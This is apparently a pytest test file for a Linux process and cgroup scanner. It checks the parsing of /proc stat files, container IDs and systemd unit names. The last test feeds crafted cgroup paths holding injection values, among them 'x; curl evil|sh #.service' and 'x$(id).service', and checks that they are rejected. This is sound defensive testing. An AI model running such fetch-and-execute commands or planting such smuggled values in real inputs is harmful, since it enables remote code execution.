import os
import time

import pytest
from tests.tree import Tree

from sparkd.base.host import Host
from sparkd.base.host.cgroups import find_container, systemd_unit
from sparkd.base.host.processes import Process, ProcessTable, parse_stat

ID = "0123456789abcdef" * 4
INNER = "f" * 64


def test_scan_reads_every_process_and_passes_over_what_is_none(tree: Tree) -> None:
    tree.process(7, "vllm", parent=1, group=5, state="R", threads=3, start_time=99)
    tree.process(2, "kthreadd", parent=0, group=0, kernel=True)
    tree.file("/proc/self/stat", "7 (vllm) S 1 1 1")
    tree.file("/proc/9/stat", "")
    tree.folder("/proc/10")
    assert Host(tree.root).processes().processes == (
        Process(2, "kthreadd", "S", 0, 0, 1, 100, kernel=True),
        Process(7, "vllm", "R", 1, 5, 3, 99),
    )


@pytest.mark.parametrize("comm", ["a b", "a) S 1", "(", ") ) )", ""])
def test_a_name_with_brackets_and_blanks_hides_no_field(comm: str) -> None:
    rest = " ".join(["Z", "11", "12"] + ["0"] * 14 + ["1", "0", "77", "0"])
    process = parse_stat(f"5 ({comm}) {rest}".encode())
    assert process == Process(5, comm, "Z", 11, 12, 1, 77)


def test_a_name_cannot_move_the_cursor(tree: Tree) -> None:
    tree.process(7, "\x1b[2J")
    assert Host(tree.root).processes().processes[0].comm == "\\x1b[2J"


def test_descendants_and_group_leader(tree: Tree) -> None:
    tree.process(10, "vllm", group=10)
    tree.process(11, "VLLM::EngineCor", parent=10, group=10)
    tree.process(12, "VLLM::Worker_TP", parent=11, group=10)
    tree.process(13, "other", parent=1, group=9)
    table = Host(tree.root).processes()
    assert [process.pid for process in table.descendants(10)] == [11, 12]
    leaders = {process.pid: table.group_leader(process) for process in table}
    assert leaders[12] is not None and leaders[12].pid == 10
    assert leaders[13] is None


@pytest.mark.parametrize(
    ("cgroup", "found"),
    [
        (f"0::/system.slice/docker-{ID}.scope", ID),
        (f"0::/docker/{ID}", ID),
        (f"12:memory:/docker/{ID}\n0::/", ID),
        (f"0::/docker/{ID}/docker/{INNER}", INNER),
        (f"0::/machine.slice/libpod-{ID}.scope/container", ID),
        (f"0::/kubepods.slice/cri-containerd-{ID}.scope", ID),
        (f"0::/user.slice/{ID}0", ""),
        ("0::/system.slice/docker.service", ""),
        ("", ""),
    ],
)
def test_the_container_id_is_in_the_cgroup(tree: Tree, cgroup: str, found: str) -> None:
    tree.groups(cgroup)
    if not os.geteuid():
        os.chown(tree.folder("/sys/fs/cgroup"), 65534, -1)  # as in a container of a whole system
    assert find_container(Host(tree.root).files, cgroup)[0] == found


@pytest.mark.parametrize("end", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028"])
def test_no_letter_in_a_users_group_begins_another_row(tree: Tree, end: str) -> None:
    """The kernel refuses a line feed alone in such a name, and the group in the second half is docker's own."""
    docker = f"0::/system.slice/docker-{ID}.scope"
    tree.groups(docker)
    cgroup = f"0::/user.slice/user@1000.service/x{end}{docker}\n"
    assert find_container(Host(tree.root).files, cgroup) == ("", "")


def test_a_users_group_deeper_than_a_path_can_be_is_no_container(tree: Tree) -> None:
    deep = f"/user.slice/user@1000.service{('/' + 'd' * 200) * 20}/docker-{ID}"
    tree.process(9, "VLLM::Worker_TP", uid=1000)
    tree.file("/proc/9/cgroup", f"0::{deep}\n")
    host = Host(tree.root)
    details = host.details(host.processes().processes[0])
    assert details is not None and details.group.container_id == ""


@pytest.mark.parametrize("group", [f"/system.slice/docker-{ID}.scope", f"/docker/{ID}"])
def test_a_containers_processes_are_those_of_its_group(tree: Tree, group: str) -> None:
    tree.process(7, "vllm", cgroup=f"0::{group}")
    tree.process(8, "cicc", parent=7)
    tree.process(9, "cicc")
    tree.file(f"/sys/fs/cgroup{group}/cgroup.procs", "7\n8\n12345\n")
    host = Host(tree.root)
    assert [one.pid for one in host.container_processes(7, ID)] == [7, 8]
    assert host.container_processes(7, INNER) == (), "the pid is another container's"
    assert host.container_processes(9, ID) == ()
    assert host.container_processes(77, ID) == ()


def test_details_of_a_process_in_a_container(tree: Tree) -> None:
    tree.process(
        7, "VLLM::Worker_TP", argv=("VLLM::Worker_TP0", "", "", ""), cgroup=f"0::/docker/{ID}", namespace_pid=1,
        private_kib=4,
    )  # fmt: skip
    host = Host(tree.root)
    found = host.details(host.processes().processes[0])
    assert found is not None
    assert host.argv(host.processes().processes[0]) == ("VLLM::Worker_TP0",)
    assert (found.uid, found.namespace_pid) == (0, 1)
    assert (found.group.container_id, found.frees_bytes) == (ID, 4096)


def test_details_of_this_process_and_of_one_whose_status_has_another_format(tree: Tree) -> None:
    host = Host()
    (own,) = (process for process in host.processes() if process.pid == os.getpid())
    found = host.details(own)
    assert found is not None and found.uid == os.geteuid() and found.frees_bytes > 0
    tree.process(7, "vllm")
    tree.file("/proc/7/status", "Name:\tvllm\n")
    with pytest.raises(ValueError, match="/proc/7/status has another format"):
        Host(tree.root).details(Host(tree.root).processes().processes[0])


def test_a_reused_pid_has_no_details(tree: Tree) -> None:
    tree.process(7, "vllm", start_time=1)
    host = Host(tree.root)
    judged = host.processes().processes[0]
    tree.process(7, "bash", start_time=2)
    assert host.details(judged) is None


def test_a_process_with_the_most_groups_has_details(tree: Tree) -> None:
    tree.process(7, "vllm", private_kib=4)
    status = tree.root / "proc/7/status"
    status.write_text(f"Groups:\t{' '.join(str(4_000_000_000 + one) for one in range(1 << 16))}\n{status.read_text()}")
    host = Host(tree.root)
    found = host.details(host.processes().processes[0])
    assert found is not None and found.frees_bytes == 4096


def test_two_thousand_processes_are_scanned_within_a_fifth_of_a_second(tree: Tree) -> None:
    """Of a processor; the bench has ten thousand real ones."""
    for pid in range(1, 2_001):
        folder = tree.root / "proc" / str(pid)
        folder.mkdir()
        (folder / "stat").write_text(f"{pid} (sleep) S 1 {pid} {pid} 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 5 0 0\n")
    host = Host(tree.root)
    began = time.thread_time()
    assert len(host.processes().processes) == 2_000
    assert time.thread_time() - began < 0.2


def test_the_topmost_of_thirty_thousand_processes_are_found_in_one_walk() -> None:
    """A chain, and at its end as many children: a walk up from each of these would take minutes."""
    half = 15_000
    chain = [Process(pid, "sh", "S", pid - 1, 1, 1, 1) for pid in range(2, half)]
    leaves = [Process(pid, "VLLM::Worker_TP", "S", half - 1, 1, 1, 1) for pid in range(half, 2 * half)]
    table = ProcessTable((*chain, *leaves))
    began = time.process_time()
    assert table.topmost(one.pid for one in leaves) == tuple(range(half, 2 * half))
    assert table.topmost((half, 5, 2, 9)) == (2,)
    assert time.process_time() - began < 1


@pytest.mark.parametrize(
    ("path", "unit", "manager_uid"),
    [
        ("system.slice/ollama.service/inner.scope", "ollama.service", ""),
        (r"system.slice/app-a\x2db@1.service", r"app-a\x2db@1.service", ""),
        ("user.slice/user@1000.service/app.slice/ds4.service", "ds4.service", "1000"),
        ("user.slice/user@1000.service/app.slice/x; curl evil|sh #.service", "user@1000.service", ""),
        ("user.slice/user@1000.service/-Hevil.service", "user@1000.service", ""),
        ("x$(id).service", "", ""),
    ],
)
def test_a_folder_of_cgroups_is_a_unit_where_systemd_accepts_the_name(path: str, unit: str, manager_uid: str) -> None:
    assert systemd_unit(f"0::/{path}\n") == (unit, manager_uid)
